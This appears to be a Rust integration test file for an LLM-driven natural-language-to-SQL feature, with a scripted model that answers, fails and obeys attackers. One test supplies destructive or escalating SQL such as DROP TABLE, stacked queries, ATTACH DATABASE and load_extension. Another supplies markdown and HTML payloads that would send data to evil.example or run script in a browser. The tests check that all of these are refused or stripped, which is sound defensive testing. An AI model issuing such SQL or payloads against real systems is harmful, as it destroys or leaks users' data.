//! The llm engine end to end: against a scripted server that answers, lies, breaks and obeys attackers.

mod assist;
mod failures;
mod order;
mod privacy;
mod settings;

use serde_json::{Value, json};

use crate::chat::{ask_with, check, shop};
use crate::support::model::{Model, Script};
use crate::support::{Client, Server};

/// A key that must never be seen anywhere.
pub const KEY: &str = "sk-canary-90210";
/// A question that the builtin engine has no answer for.
const HARD: &str = "Which customers would be charmed by a lamp anniversary?";

/// A server with the shop, an admin, and a scripted model set up.
pub struct World {
    pub server: Server,
    pub admin: Client,
    pub shop: String,
    pub model: Model,
}

impl World {
    pub async fn new(privacy: &str) -> Self {
        let server = Server::start().await;
        let (admin, shop) = shop(&server).await;
        let model = Model::start().await;
        let world = Self { server, admin, shop, model };
        world.set(json!({ "privacy": privacy, "api_key": KEY })).await;
        world
    }

    /// Saves settings; what is not given has a value that works.
    pub async fn set(&self, given: Value) -> Value {
        let mut body = json!({ "base_url": self.model.base_url, "model": "scripted-1", "enabled": true,
            "privacy": "names", "monthly_token_budget": null });
        given.as_object().unwrap().iter().for_each(|(k, v)| body[k] = v.clone());
        self.admin.put("/ai/settings", body).await.expect(200).json()
    }

    /// Asks the model, and nothing else.
    pub async fn ask(&self, message: &str) -> Value {
        ask_with(&self.admin, json!({ "message": message, "connection_id": self.shop, "engine": "llm" })).await
    }
}

#[tokio::test]
async fn the_model_answers_what_the_builtin_engine_cannot() {
    let world = World::new("names").await;
    world
        .model
        .sql("SELECT c.name, count(*) AS lamps FROM customers c JOIN orders o ON o.customer_id = c.id GROUP BY c.name");
    let answer = ask_with(&world.admin, json!({ "message": HARD, "connection_id": world.shop })).await;
    assert_eq!((&answer["state"], &answer["engine"]), (&json!("answered"), &json!("llm")), "{answer:#}");
    assert_eq!(answer["trust"], "checked", "{:#}", answer["receipt"]);
    assert_eq!(answer["full_result_row_count"], 3);
    assert_eq!(answer["context_summary"], "Counted as asked.");
    assert_eq!(answer["token_usage"], json!({ "prompt": 100, "completion": 20, "total": 120 }));
    let engine = &answer["receipt"]["engine"];
    assert_eq!((&engine["model"], &engine["prompt_version"]), (&json!("scripted-1"), &json!("v1")));
    assert_eq!(answer["receipt"]["left_the_server"]["nothing"], false);
    let used = world.admin.get("/ai/settings").await.expect(200).json()["tokens_used_this_month"].clone();
    assert_eq!(used, 120);
    world.server.stop().await;
}

#[tokio::test]
async fn the_builtin_engine_goes_first_and_the_model_is_not_asked() {
    let world = World::new("names").await;
    let body = json!({ "message": "number of orders by status", "connection_id": world.shop });
    let answer = ask_with(&world.admin, body).await;
    assert_eq!((&answer["engine"], &answer["state"]), (&json!("builtin"), &json!("answered")));
    let body = json!({ "message": "delete all orders", "connection_id": world.shop });
    assert_eq!(ask_with(&world.admin, body).await["refusal"]["reason"], "only_reads");
    assert!(world.model.seen().is_empty());
    world.server.stop().await;
}

#[tokio::test]
async fn a_query_that_fails_is_mended_with_what_was_said() {
    let world = World::new("names").await;
    world
        .model
        .sql("SELECT nope FROM orders")
        .sql("SELECT total / 'x' FROM orders, nope")
        .sql("SELECT count(*) AS n FROM orders");
    let answer = world.ask("how many?").await;
    assert_eq!(
        (&answer["state"], &answer["query_result_preview"]),
        (&json!("answered"), &json!([[120]])),
        "{answer:#}"
    );
    let seen = world.model.seen();
    assert_eq!(seen.len(), 3);
    assert!(seen[1].said().contains("nope"), "{}", seen[1].said());
    assert_eq!(answer["token_usage"]["total"], 360, "every try is counted");
    world.server.stop().await;
}

#[tokio::test]
async fn a_model_that_never_learns_is_asked_three_times_and_no_more() {
    let world = World::new("results").await;
    for _ in 0..6 {
        world.model.sql("SELECT nope FROM orders");
    }
    let answer = world.ask("how many?").await;
    assert_eq!((&answer["state"], &answer["error"]["code"]), (&json!("failed"), &json!("query_failed")));
    assert_eq!(answer["generated_sql"], "SELECT nope FROM orders", "what is known is kept");
    assert_eq!(world.model.seen().len(), 3);
    world.server.stop().await;
}

#[tokio::test]
async fn a_model_that_obeys_an_attacker_changes_nothing() {
    let world = World::new("names").await;
    let attacks = [
        "DROP TABLE orders",
        "DELETE FROM orders",
        "SELECT 1; DROP TABLE orders",
        "SELECT * FROM sqlite_master",
        "ATTACH DATABASE 'x.db' AS x",
        "PRAGMA query_only = OFF",
        "WITH x AS (DELETE FROM orders RETURNING *) SELECT * FROM x",
        "SELECT load_extension('x')",
        "SELECT * FROM users",
        "INSERT INTO orders SELECT * FROM orders",
    ];
    for attack in attacks {
        for _ in 0..3 {
            world.model.sql(attack);
        }
        let answer = world.ask("orders, please").await;
        assert_eq!(answer["error"]["code"], "query_refused", "{attack}: {answer:#}");
        assert_eq!(answer["query_result_preview"], json!([]));
    }
    world.model.sql("SELECT count(*) AS n FROM orders");
    assert_eq!(world.ask("how many?").await["query_result_preview"], json!([[120]]));
    world.server.stop().await;
}

#[tokio::test]
async fn nothing_a_model_writes_reaches_a_browser_as_markup_or_link() {
    let world = World::new("results").await;
    let evil = "See ![x](https://evil.example/?d=1) <img src=x onerror=alert(1)> [here](https://evil.example) now";
    world.model.reply(&json!({ "sql": "SELECT count(*) AS n FROM orders", "explanation": evil, "title": evil }));
    world.model.then(Script::Reply(format!("{evil} with 120 orders. More at https://evil.example/x today.")));
    let answer = world.ask("how many?").await;
    assert_eq!(answer["state"], "answered", "{answer:#}");
    let text = answer.to_string();
    for bad in ["evil.example", "<img", "onerror"] {
        assert!(!text.contains(bad), "{bad}: {answer:#}");
    }
    world.server.stop().await;
}

#[tokio::test]
async fn a_sentence_with_a_number_that_is_nowhere_is_left_out() {
    let world = World::new("results").await;
    world.model.sql("SELECT status, count(*) AS orders FROM orders GROUP BY status ORDER BY status");
    world.model.then(Script::Reply(
        "Paid orders came to 90. Open ones doubled. Revenue rose 17 percent. It looks calm.".into(),
    ));
    let answer = world.ask("orders by status, and what it means").await;
    let facts = answer["insight"]["facts"].as_array().unwrap();
    let said: Vec<String> = facts
        .iter()
        .filter(|f| f["kind"] == "model")
        .map(|f| f["sentence"].as_array().unwrap().iter().filter_map(|p| p["text"].as_str()).collect())
        .collect();
    assert_eq!(said, ["Paid orders came to 90.", "It looks calm."], "{answer:#}");
    assert!(check(&answer, "model_sentences")["detail"].as_str().unwrap().starts_with("2 sentences"));
    world.server.stop().await;
}

#[tokio::test]
async fn a_model_may_ask_back_and_the_choice_is_answered() {
    let world = World::new("names").await;
    let choices = json!(["How many paid orders?", "How many open orders?"]);
    world.model.reply(&json!({ "clarify": { "question": "Which orders?", "choices": choices } }));
    let asked = world.ask("how many?").await;
    assert_eq!((&asked["state"], &asked["content"]), (&json!("clarify"), &json!("Which orders?")));
    let choice = &asked["clarification"]["choices"][1];
    assert_eq!(choice["label"], "How many open orders?");
    world.model.sql("SELECT count(*) AS n FROM orders WHERE status = 'open'");
    let body = json!({ "message": choice["label"], "connection_id": world.shop, "session_id": asked["session_id"],
        "reading": choice["reading"] });
    let answer = ask_with(&world.admin, body).await;
    assert_eq!((&answer["engine"], &answer["query_result_preview"]), (&json!("llm"), &json!([[30]])), "{answer:#}");
    world.server.stop().await;
}

#[tokio::test]
async fn a_model_that_cannot_says_why() {
    let world = World::new("names").await;
    world.model.reply(&json!({ "cannot": "There is nothing about the weather in these tables." }));
    let answer = world.ask("did it rain?").await;
    assert_eq!(answer["state"], "refused");
    assert_eq!(answer["refusal"]["message"], "There is nothing about the weather in these tables.");
    world.server.stop().await;
}
